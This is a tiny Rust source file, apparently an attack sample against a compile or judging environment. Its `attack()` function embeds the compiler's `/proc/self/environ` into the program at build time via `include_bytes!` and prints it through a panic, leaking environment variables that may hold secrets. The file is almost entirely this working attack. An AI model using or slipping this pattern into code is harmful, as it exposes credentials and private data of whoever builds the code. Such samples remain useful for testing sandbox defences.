//! Reads the compiler's environment into the program, and tells it.

pub mod api;

// + server
// + node

fn attack() {
    panic!("{}", String::from_utf8_lossy(include_bytes!("/proc/self/environ")));
}
